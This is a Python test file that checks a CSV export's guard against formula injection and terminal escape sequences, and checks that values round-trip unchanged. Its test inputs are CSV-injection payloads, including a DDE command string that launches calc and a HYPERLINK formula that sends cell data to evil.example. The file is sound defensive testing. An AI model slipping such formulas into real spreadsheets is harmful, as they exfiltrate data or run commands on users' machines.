"""No cell of a file that we write is a formula, and what is read back is unchanged."""

import csv
import io
import zipfile
from pathlib import Path

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from explorer.files import csv_bytes, guarded, unguarded
from explorer.play.dataframes import as_csv
from nip_core import Episode, HyperParameters, bundled_tasks
from nip_core.play import Move, Seated
from tests.depth import each

ROOT = Path(__file__).parents[2]
FORMULAS = [
    *("=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", '"=1'),
    *("'=1", "' \"@x", "\uff1d1", "\ufeff=1", '=HYPERLINK("http://evil.example?"&A1)'),
]
BREAKS, SIGNS = tuple("\t\r\n"), tuple("=+-@\uff1d")
hostile = st.text(st.sampled_from("=+-@\t\r\n '\",;1e.a\uff1d\u200b\ufeff"), max_size=8)


def is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def begins_a_formula(cell):
    bare = cell.lstrip(' "\u200b\ufeff\u00a0')
    return not is_number(cell) and (cell.startswith(BREAKS) or bare.startswith(SIGNS))


@given(st.one_of(hostile, st.sampled_from(FORMULAS), st.text()))
def test_texts_come_back_and_are_no_formulas_in_the_file(text):
    cell = guarded(text)
    assert unguarded(cell) == text
    assert not begins_a_formula(cell)


@each("number", ["-1", "+2", "-0.5", "1e-5", "-1E+7", "3"])
def test_numbers_stay_numbers(number):
    assert guarded(number) == number
    (row,) = csv.DictReader(io.StringIO(csv_bytes(pd.DataFrame({"x": [float(number)]})).decode()))
    assert float(row["x"]) == float(number)


def test_every_cell_and_every_header_of_a_table():
    frame = pd.DataFrame({text: [text, -1.5, None] for text in FORMULAS})
    written = list(csv.reader(io.StringIO(csv_bytes(frame).decode(), newline="")))
    assert [unguarded(cell) for cell in written[0]] == FORMULAS
    assert [unguarded(cell) for cell in written[1]] == FORMULAS
    assert set(written[2]) == {"-1.5"}
    assert set(written[3]) <= {"", '""'}
    assert not any(begins_a_formula(cell) for row in written for cell in row)


def test_transcripts():
    episode = Episode(HyperParameters(interaction_protocol="nip"), bundled_tasks("easy")[0], 3)
    model = {"kind": "llm", "model": "=model()", "base_url": None}
    episode.apply(Seated(agent="prover", player=model))
    for formula in FORMULAS[:3]:
        episode.play(Move("verifier", {"main": formula}))
        episode.play(Move("prover", {"main": formula}))
    episode.play(Move("verifier", decision=1))
    archive = zipfile.ZipFile(io.BytesIO(as_csv([("=id()", episode)])))
    cells = [
        cell
        for name in archive.namelist()
        for row in csv.reader(io.StringIO(archive.read(name).decode(), newline=""))
        for cell in row
    ]
    assert "'=id()" in cells
    assert set(FORMULAS[:3]) <= {unguarded(cell) for cell in cells}
    assert not any(begins_a_formula(cell) for cell in cells)


def test_no_cell_and_no_header_commands_a_terminal():
    hostile = "\x1b[2J\x9b31m\x00\x07\x08\x7f\u202ea\u2028"
    text = csv_bytes(pd.DataFrame({hostile: [hostile, "two\nlines"]})).decode()
    assert r"\x1b[2J\x9b31m\x00\x07\x08\x7f\u202ea\u2028" in text
    assert all(c.isprintable() or c in "\r\n" for c in text)


def test_there_is_no_other_way_to_write_one():
    others = [
        path.name
        for folder in ("explorer", "pages", "nip_core")
        for path in (ROOT / folder).rglob("*.py")
        if "to_csv(" in path.read_text("utf-8") or "csv.writer" in path.read_text("utf-8")
    ]
    assert others == ["files.py"]
